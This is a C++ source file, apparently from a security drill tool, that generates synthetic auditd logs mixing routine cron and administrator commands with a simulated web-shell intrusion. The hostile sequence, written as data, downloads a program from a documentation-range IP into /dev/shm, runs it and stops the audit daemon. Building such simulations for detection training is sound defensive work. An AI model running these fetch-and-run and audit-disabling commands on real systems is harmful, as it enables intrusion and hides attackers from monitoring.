// audit.log of a result server: the work of cron and of administrators, and a web shell that runs
// commands, fetches a program into shared memory and stops the audit daemon.
#include <algorithm>
#include <array>
#include <span>
#include <tuple>

#include "daemon/drill/generate/night.hpp"
#include "daemon/drill/generate/random.hpp"

namespace kentongan::generate {

namespace {

using std::chrono::minutes;
using std::chrono::seconds;

struct Command {
    std::string_view parent;  ///< comm of who ran it, for the reader only
    std::string_view exe;
    std::vector<std::string_view> arguments;
    std::string_view folder;
    int uid = 0;
};

const std::array kOrdinary{
    Command{"cron", "/usr/bin/dash", {"/bin/sh", "-c", "/usr/local/bin/rotate-photos"}, "/root", 0},
    Command{"bash", "/usr/bin/systemctl", {"systemctl", "status", "nginx"}, "/home/ratna", 1001},
    Command{"bash", "/usr/bin/ls", {"ls", "-l", "/var/log"}, "/home/dewi", 1002},
    Command{"bash", "/usr/bin/tail", {"tail", "-n", "50", "/var/log/syslog"}, "/home/agus", 1003},
    Command{"run-parts", "/usr/bin/find", {"find", "/tmp", "-mtime", "+7"}, "/", 0},
};

const std::array kHostile{
    Command{"php-fpm8.2", "/usr/bin/dash", {"sh", "-c", "id"}, "/var/www/upload", 33},
    Command{"sh", "/usr/bin/id", {"id"}, "/var/www/upload", 33},
    Command{"sh",
            "/usr/bin/curl",
            {"curl", "-s", "-o", "/dev/shm/.x", "http://203.0.113.9/x"},
            "/var/www/upload",
            33},
    Command{"sh", "/dev/shm/.x", {"/dev/shm/.x"}, "/dev/shm", 33},
    Command{"sh", "/usr/bin/systemctl", {"systemctl", "stop", "auditd"}, "/dev/shm", 0},
};

class AuditLog {
  public:
    explicit AuditLog(const Night& night) : night_(night), random_(night.seed ^ 0xA0D1) {}

    std::vector<Line> make() {
        const int commands = std::max(20, static_cast<int>(1500 * night_.scale));
        std::vector<std::tuple<Duration, std::size_t, const Command*>> plan;  // with its place
        for (int i = 0; i < commands; ++i)
            plan.emplace_back(night_.begin + seconds{random_.between(0, 23 * 3600)}, plan.size(),
                              &random_.pick(kOrdinary));
        Duration at = minutes{140};
        for (const Command& command :
             night_.attacked ? std::span<const Command>(kHostile) : std::span<const Command>())
            plan.emplace_back(at += seconds{40}, plan.size(), &command);
        std::ranges::sort(plan);
        for (const auto& [when, place_in_plan, command] : plan) run(place(night_, when), *command);
        return std::move(lines_);
    }

  private:
    void say(Timestamp time, std::string_view type, const std::string& text) {
        const auto ms = to_nanoseconds(time) / 1'000'000;
        lines_.push_back({time, fmt::format("type={} msg=audit({}.{:03}:{}): {}", type, ms / 1000,
                                            ms % 1000, serial_, text)});
    }

    void run(Timestamp time, const Command& command) {
        ++serial_;
        const auto name = command.exe.substr(command.exe.rfind('/') + 1);
        const auto pid = 2000 + random_.below(30000);
        say(time, "SYSCALL",
            fmt::format("arch=c000003e syscall=59 success=yes exit=0 a0=55d0{0} a1=55d1{0} "
                        "a2=55d2{0} a3=8 items=2 ppid={1} pid={2} auid={3} uid={3} gid={3} "
                        "euid={3} suid={3} fsuid={3} egid={3} sgid={3} fsgid={3} tty=(none) ses=3 "
                        "comm=\"{4}\" exe=\"{5}\" subj=unconfined key=\"exec\"\x1D"
                        "ARCH=x86_64 SYSCALL=execve AUID=\"{6}\" UID=\"{6}\" GID=\"{6}\" "
                        "EUID=\"{6}\"",
                        random_.hex(8), pid - 1, pid, command.uid, name, command.exe,
                        name_of(command.uid)));
        std::string arguments = fmt::format("argc={}", command.arguments.size());
        for (std::size_t i = 0; i < command.arguments.size(); ++i)
            arguments += fmt::format(" a{}={}", i, quoted(command.arguments[i]));
        say(time, "EXECVE", arguments);
        say(time, "CWD", fmt::format("cwd=\"{}\"", command.folder));
        say(time, "PATH",
            fmt::format("item=0 name=\"{}\" inode={} dev=08:01 mode=0100755 ouid=0 ogid=0 "
                        "rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0",
                        command.exe, 100000 + random_.below(900000)));
        std::string title;
        for (const auto argument : command.arguments) {
            if (!title.empty()) title += "00";
            title += hex(argument);
        }
        say(time, "PROCTITLE", "proctitle=" + title);
    }

    /// As auditd with log_format = ENRICHED looks it up.
    static std::string_view name_of(int uid) {
        constexpr std::array<std::string_view, 3> kStaff{"ratna", "dewi", "agus"};
        if (uid == 0) return "root";
        return uid == 33 ? "www-data" : kStaff[static_cast<std::size_t>(uid - 1001)];
    }

    /// As the kernel does: texts with blanks or quotes are in hexadecimal.
    static std::string quoted(std::string_view text) {
        if (text.find_first_of(" \"") == std::string_view::npos) return fmt::format("\"{}\"", text);
        return hex(text);
    }

    static std::string hex(std::string_view text) {
        std::string out;
        for (const char c : text) out += fmt::format("{:02X}", static_cast<unsigned char>(c));
        return out;
    }

    const Night& night_;
    Random random_;
    std::vector<Line> lines_;
    std::uint64_t serial_ = 4000;
};

}  // namespace

std::vector<Line> audit_log(const Night& night) { return AuditLog{night}.make(); }

}  // namespace kentongan::generate
